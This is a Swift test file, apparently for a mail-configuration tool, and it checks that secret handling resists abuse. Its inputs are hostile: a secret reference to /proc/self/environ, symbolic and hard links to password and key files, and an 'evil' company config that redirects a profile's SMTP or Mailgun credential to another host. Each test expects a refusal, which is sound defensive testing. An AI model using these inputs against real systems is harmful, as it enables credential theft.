        try FileManager.default.createSymbolicLink(atPath: ws.path("companies/evil/secrets/acme-smtp.txt"), withDestinationPath: "../password.txt")
        try ws.write("companies/evil.yaml", "company: evil\nsender:\n  email: a@evil.example.com\nprovider: smtp\nsmtp:\n  host: 127.0.0.1\n  port: 587\n  username: u\n  password: ${file:evil/pw.txt}\n  starttls: required\n")
        for arguments in [["plan", "companies", "--snapshot", "snapshot.json"], ["apply", "companies", "--auto-approve", "--no-probe"]] {
            let result = try ws.run(arguments)
            #expect(result.exitCode == 1, "\(arguments): \(result.stdout)")
            #expect(result.stderr.contains("secret file 'evil/pw.txt' is reached through the symbolic link companies/evil/pw.txt inside the workspace"), "\(result.stderr)")
        }
        try ws.remove("companies/evil.yaml")
        // A profile may not read a file inside the workspace (it would hand a company's file to others).
        try ws.write("profiles/mailer.yaml", "provider: smtp\nsmtp:\n  host: 127.0.0.1\n  port: 587\n  username: u\n  password: ${file:../secrets/acme-smtp.txt}\n  starttls: required\n")
        try ws.write("companies/evil.yaml", "company: evil\nextends: mailer\nsender:\n  email: a@evil.example.com\n")
        let profile = try ws.run(["plan", "companies", "--snapshot", "snapshot.json"])
        #expect(profile.exitCode == 1)
        #expect(profile.stderr.contains("a profile may not read the secret file '../secrets/acme-smtp.txt' inside the workspace"), "\(profile.stderr)")
        // Profiles named alike but for case share no variables.
        try ws.write("profiles/Mailer.yaml", "provider: smtp\nsmtp:\n  host: 127.0.0.1\n  port: 587\n  username: u\n  password: ${env:MAILFORM__MAILER__PASSWORD}\n  starttls: required\n")
        try ws.write("companies/evil.yaml", "company: evil\nextends: Mailer\nsender:\n  email: a@evil.example.com\n")
        let cased = try ws.run(["plan", "companies", "--snapshot", "snapshot.json"], environment: ["MAILFORM__MAILER__PASSWORD": "x"])
        #expect(cased.exitCode == 1)
        #expect(cased.stderr.contains("${env:MAILFORM__MAILER__PASSWORD} reads a variable outside the secrets.env fence"), "\(cased.stderr)")
    }

    @Test func aProfilesSecretGoesOnlyToTheProfilesHost() throws {
        let ws = try ExampleWorkspace(copying: [])
        try ws.write("mailform.yaml", "mode: on-premise\n")
        try ws.write("profiles/relay.yaml", "provider: smtp\nsmtp:\n  host: relay.example.net\n  port: 587\n  username: shared@relay.example.net\n  password: ${env:MAILFORM__RELAY__PASSWORD}\n")
        try ws.write("companies/good.yaml", "company: good\nextends: relay\nsender:\n  email: a@good.example.com\n")
        let env = ["MAILFORM__RELAY__PASSWORD": "relay-shared-secret"]
        #expect(try ws.run(["plan", "companies"], environment: env).exitCode == 0)
        try ws.write("companies/evil.yaml", "company: evil\nextends: relay\nsender:\n  email: a@evil.example.com\nsmtp:\n  host: 127.0.0.1\n")
        let result = try ws.run(["plan", "companies"], environment: env)
        #expect(result.exitCode == 1)
        #expect(result.stderr.contains("companies/evil.yaml:6:3: error: smtp.host changes a setting of the SMTP server whose secret comes from profile 'relay': a profile's secret goes only with the profile's own settings [secret-owner]"),
                "\(result.stderr)")
        // Any setting of that server, not only its host: an OAuth2 token URL too.
        try ws.write("companies/evil.yaml", "company: evil\nextends: relay\nsender:\n  email: a@evil.example.com\nsmtp:\n  port: 2525\n")
        #expect(try ws.run(["validate", "companies"], environment: env).stdout.contains("smtp.port changes a setting of the SMTP server whose secret comes from profile 'relay'"))
        // A Mailgun key from a profile goes only with the profile's domain and region.
        try ws.write("profiles/mg.yaml", "provider: mailgun\nmailgun:\n  domain: mg.relay.example.net\n  api_key: ${env:MAILFORM__MG__MAILGUN_API_KEY}\n")
        try ws.write("companies/evil.yaml", "company: evil\nextends: mg\nsender:\n  email: a@evil.example.com\nmailgun:\n  domain: mg.evil.example.com\n  region: eu\n")
        let mailgun = try ws.run(["validate", "companies"], environment: env.merging(["MAILFORM__MG__MAILGUN_API_KEY": "key-x"]) { $1 })
        #expect(mailgun.exitCode == 1)
        #expect(mailgun.stdout.contains("companies/evil.yaml:6:3: error: mailgun.domain changes a setting of the Mailgun account whose secret comes from profile 'mg'"), "\(mailgun.stdout)")
        #expect(mailgun.stdout.contains("companies/evil.yaml:7:3: error: mailgun.region changes a setting"), "\(mailgun.stdout)")
    }

    @Test func theKernelsFilesAreNeverSecretFiles() throws {
        let ws = try ExampleWorkspace(copying: [])
        try ws.write("mailform.yaml", "mode: on-premise\nsecrets:\n  dirs: [/proc]\n  dirs_reach: all\n")
        try ws.write("companies/a.yaml", "company: a\nsender:\n  email: a@a.example.com\nprovider: smtp\nsmtp:\n  host: smtp.a.example.com\n  port: 25\n  username: u\n  password: ${file:/proc/self/environ}\n")
        let result = try ws.run(["plan", "companies"], environment: ["MAILFORM_STORE_KEY": Data(repeating: 3, count: 32).base64EncodedString()])
        #expect(result.exitCode == 1)
        #expect(result.stderr.contains("secret file '/proc/self/environ' is one of the kernel's files (/proc, /sys, /dev), which no reference may read"), "\(result.stderr)")
    }

    /// A server that answers NOOP with an endless multi-line reply: the
    /// probe ends within its bounds (protocol violation), memory bounded.
    @Test func anEndlessReplyIsBounded() throws {
        let servers = try TestServers.get()
        let ws = try ExampleWorkspace(copying: [])
        try ws.write("mailform.yaml", "mode: on-premise\nprobe:\n  timeout: 3s\n  deadline: 20s\n")
        try ws.write("companies/a.yaml", "company: a\nsender:\n  email: a@a.example.com\nprovider: smtp\nsmtp:\n  host: 127.0.0.1\n  port: \(servers.port("flood_noop"))\n  starttls: off\n")
        let result = try UntrustedPullRequestTests.runBounded(["probe", "companies", "--format", "json"], in: ws, seconds: 60)
        #expect(result.exitCode == 3, "\(result.stdout)\(result.stderr)")
        #expect(result.stdout.contains("protocol-violation") || result.stdout.contains("\"timeout\""), "\(result.stdout)")
    }

    /// A proxy from the workspace's own mailform.yaml (not a trusted file)
    /// decides who carries the connection: no credential goes out.
    @Test func noCredentialThroughAProxyOrCAAnUntrustedFileSets() throws {
        let listener = try RecordingListener()
        defer { listener.stop() }
        let ws = try ExampleWorkspace(copying: [])
        try ws.write("mailform.yaml", "mode: on-premise\nprobe:\n  timeout: 3s\n")
        try ws.write("secrets/a.txt", "a-secret-Kp9\n")
        try ws.write("companies/a.yaml", UntrustedPullRequestTests.smtpCompany("a", port: listener.port, password: "${file:../secrets/a.txt}"))
        try #require(try ws.run(["apply", "companies", "--auto-approve", "--no-probe"]).exitCode == 0)
        #expect(try ws.run(["probe", "companies"]).exitCode == 0)
        #expect(listener.sawAuth, "the store holds this secret for this endpoint: the gate sends it")
        listener.clear()
        try ws.write("mailform.yaml", "mode: on-premise\nprobe:\n  timeout: 3s\n  proxy: socks5h://127.0.0.1:9\n")
        let probe = try ws.run(["probe", "companies"])
        #expect(!listener.sawAuth, "\(listener.received)")
        #expect(probe.stderr.contains("no credential is sent: probe.proxy comes from the workspace's own mailform.yaml, not a trusted one"), "\(probe.stderr)")
    }

    @Test func aHardLinkToTheKeyIsNotReadAsASecret() throws {
        let ws = try Self.applied()
        try #require(link(ws.path("mailform.db.key"), ws.path("secrets/innocent.txt")) == 0)
        try ws.edit("companies/acme.yaml", "${file:../secrets/acme-smtp.txt}", "${file:../secrets/innocent.txt}")
        let result = try ws.run(["validate", "companies"])
        #expect(result.exitCode == 1)
        #expect(result.stdout.contains("secret file '../secrets/innocent.txt' is the store or its key, which no reference may read"), "\(result.stdout)")
    }

    @Test func theProbeGreetsWithANeutralName() throws {
        let listener = try RecordingListener()
        let ws = try ExampleWorkspace(copying: [])
        try ws.write("mailform.yaml", "mode: on-premise\nprobe:\n  timeout: 3s\n")
        try ws.write("companies/a.yaml", "company: a\nsender:\n  email: a@a.example.com\nprovider: smtp\nsmtp:\n  host: 127.0.0.1\n  port: \(listener.port)\n  starttls: off\n")
        _ = try ws.run(["probe", "companies"])
        var name = [CChar](repeating: 0, count: 256)
        gethostname(&name, 255)
        let host = String(cString: name)
        #expect(listener.received.contains("EHLO mailform.invalid\r\n"), "\(listener.received)")
        #expect(host.isEmpty || !listener.received.contains(host))
        listener.stop()
    }

    // MARK: The least-privilege flow: snapshots and reviewed change sets

    @Test func aPullRequestPlansAgainstASnapshotWithNothingOfThePlatform() throws {
        let ws = try Self.applied()
        try #require(try ws.run(["snapshot", "--out", "snapshot.json"]).exitCode == 0)
        let snapshot = try ws.read("snapshot.json")
        for secret in ["acme-smtp.txt", "globex-smtp.txt", "initech-mailgun.txt"] {
            #expect(!snapshot.contains(try ws.read("secrets/\(secret)").trimmingCharacters(in: .newlines)))
        }
        #expect(!snapshot.contains("fingerprint") && !snapshot.contains("ciphertext"))
        // The pull request's job: no store, no key, no variables (the store path names nothing).
        try FileManager.default.moveItem(atPath: ws.storePath, toPath: ws.path("elsewhere.db"))
        try FileManager.default.moveItem(atPath: ws.path("mailform.db.key"), toPath: ws.path("elsewhere.key"))
        try ws.edit("companies/acme.yaml", "name: ACME Privacy", "name: ACME Privacidade")
        try ws.edit("companies/globex.yaml", "${file:../secrets/globex-smtp.txt}", "${file:../secrets/globex-smtp-2.txt}")
        try FileManager.default.removeItem(atPath: ws.path("secrets/acme-smtp.txt"))  // no secret value is read
        let plan = try ws.run(["plan", "companies", "--snapshot", "snapshot.json"])
        #expect(plan.exitCode == 0, "\(plan.stderr)")
        #expect(plan.stdout.contains("~ sender.name: \"ACME Privacy\" -> \"ACME Privacidade\""))
        #expect(plan.stdout.contains("~ smtp.password: (sensitive; reference ${file:secrets/globex-smtp.txt} -> ${file:secrets/globex-smtp-2.txt})"), "\(plan.stdout)")
        #expect(plan.stdout.contains("no secret read"))
        #expect(!FileManager.default.fileExists(atPath: ws.storePath) && !FileManager.default.fileExists(atPath: ws.path("mailform.db.key")))
        // Refusals: a changed snapshot, a saved plan given as one, a missing one.
        try ws.write("edited.json", snapshot.replacingOccurrences(of: "\"ACME Privacy\"", with: "\"ACME Privacidade\""))
        let edited = try ws.run(["plan", "companies", "--snapshot", "edited.json"])
        #expect(edited.exitCode == 1)
        #expect(edited.stderr.contains("is not a usable mailform snapshot: it was changed after it was written"), "\(edited.stderr)")
        try ws.write("wrong.json", "{\"format_version\": 2, \"changes\": []}")
        let wrong = try ws.run(["plan", "companies", "--snapshot", "wrong.json"])
        #expect(wrong.stderr.contains("its format is not mailform-snapshot"), "\(wrong.stderr)")
        try ws.write("future.json", snapshot.replacingOccurrences(of: "\"version\":1", with: "\"version\":2"))
        #expect(try ws.run(["plan", "companies", "--snapshot", "future.json"]).stderr.contains("it is not of version 1"))
        let usage = try ws.run(["plan", "companies", "--snapshot", "snapshot.json", "--out", "p.json"])
        #expect(usage.exitCode == 64)
    }

    @Test func applyWritesOnlyTheReviewedChangeSet() throws {
        let ws = try Self.applied()
        try #require(try ws.run(["snapshot", "--out", "snapshot.json"]).exitCode == 0)
        try ws.edit("companies/acme.yaml", "name: ACME Privacy", "name: ACME Reviewed")
        let reviewed = try ws.run(["plan", "companies", "--snapshot", "snapshot.json", "--change-set", "cs.txt"])
        try #require(reviewed.exitCode == 0)
        let digest = try ws.read("cs.txt").trimmingCharacters(in: .whitespacesAndNewlines)
        #expect(reviewed.stdout.contains("Change set: \(digest)"))
        // The trusted side's own plan names the same change set.
        #expect(try ws.run(["plan", "companies"]).stdout.contains("Change set: \(digest)"))
        // Something else merged after the review: nothing is written, the difference is shown.
        try ws.edit("companies/initech.yaml", "region: us", "region: eu")
        let before = try ws.storeDump()
        let refused = try ws.run(["apply", "companies", "--auto-approve", "--no-probe", "--reviewed", digest])
        #expect(refused.exitCode == 1)
        #expect(refused.stderr.contains("the change set to apply is not the reviewed one; nothing was written"))
        #expect(refused.stderr.contains("~ initech (company revision 1): mailgun.region"), "\(refused.stderr)")
        #expect(try ws.storeDump() == before)
        try ws.edit("companies/initech.yaml", "region: eu", "region: us")
        let applied = try ws.run(["apply", "companies", "--auto-approve", "--no-probe", "--reviewed", digest])
        #expect(applied.exitCode == 0, "\(applied.stderr)")
        #expect(try ws.database().read { db in try String.fetchOne(db, sql: "SELECT sender_name FROM companies WHERE id = 'acme'") } == "ACME Reviewed")
        #expect(try ws.run(["apply", "companies", "--auto-approve", "--reviewed", "cs1:nothex"]).exitCode == 64)
    }

    /// A reference renamed to another that holds the same value: a change a
    /// snapshot's plan shows, that the store's plan names in its change set,
    /// and that apply records without a new company revision.
    @Test func aRenamedReferenceIsReviewedAndRecorded() throws {
        let ws = try Self.applied()
        try #require(try ws.run(["snapshot", "--out", "snapshot.json"]).exitCode == 0)
        try ws.write("secrets/stark-smtp-2.txt", try ws.read("secrets/stark-smtp.txt"))
        try ws.edit("companies/stark.yaml", "stark-smtp.txt", "stark-smtp-2.txt")
        let pr = try ws.run(["plan", "companies", "--snapshot", "snapshot.json", "--change-set", "cs.txt"])
        #expect(pr.stdout.contains("~ smtp.password: (sensitive; reference ${file:secrets/stark-smtp.txt} -> ${file:secrets/stark-smtp-2.txt})"), "\(pr.stdout)")
        let digest = try ws.read("cs.txt").trimmingCharacters(in: .whitespacesAndNewlines)
        let live = try ws.run(["plan", "companies"])
        #expect(live.stdout.contains("References apply records (the values stay the same):\n  stark smtp.password: reference ${file:secrets/stark-smtp.txt} -> ${file:secrets/stark-smtp-2.txt}"), "\(live.stdout)")
        #expect(live.stdout.contains("Change set: \(digest)"))
        let applied = try ws.run(["apply", "companies", "--auto-approve", "--no-probe", "--reviewed", digest])
        #expect(applied.exitCode == 0, "\(applied.stderr)")
        let row = try ws.database().read { db in
            try Row.fetchOne(db, sql: "SELECT s.reference, c.revision FROM secrets s JOIN companies c ON c.id = s.company_id WHERE s.company_id = 'stark' AND s.path = 'smtp.password'")
        }
        #expect(row?["reference"] as String? == "${file:secrets/stark-smtp-2.txt}")
        #expect(row?["revision"] as Int? == 1)
        #expect(try ws.run(["snapshot", "--out", "snapshot.json"]).exitCode == 0)
        #expect(try ws.run(["plan", "companies", "--snapshot", "snapshot.json", "--detailed-exitcode"]).exitCode == 0)
        // A secret whose value changes with its reference is one change,
        // listed once (not also as a reference recorded "with the same
        // value"), and the change set the pull request reviewed still applies.
        try ws.write("secrets/stark-smtp-3.txt", "another-password-3")
        try ws.edit("companies/stark.yaml", "stark-smtp-2.txt", "stark-smtp-3.txt")
        let pr2 = try ws.run(["plan", "companies", "--snapshot", "snapshot.json", "--change-set", "cs2.txt"])
        #expect(pr2.exitCode == 0, "\(pr2.stderr)")
        let digest2 = try ws.read("cs2.txt").trimmingCharacters(in: .whitespacesAndNewlines)
        let live2 = try ws.run(["plan", "companies"])
        #expect(live2.stdout.contains("~ smtp.password: (sensitive; reference ${file:secrets/stark-smtp-2.txt} -> ${file:secrets/stark-smtp-3.txt})"), "\(live2.stdout)")
        #expect(!live2.stdout.contains("References apply records"), "\(live2.stdout)")
        #expect(live2.stdout.contains("Change set: \(digest2)"), "\(live2.stdout)")
        let applied2 = try ws.run(["apply", "companies", "--auto-approve", "--no-probe", "--reviewed", digest2])
        #expect(applied2.exitCode == 0, "\(applied2.stderr)")
        #expect(try ws.database().read { db in
            try String.fetchOne(db, sql: "SELECT reference FROM secrets WHERE company_id = 'stark' AND path = 'smtp.password'")
        } == "${file:secrets/stark-smtp-3.txt}")
    }
}

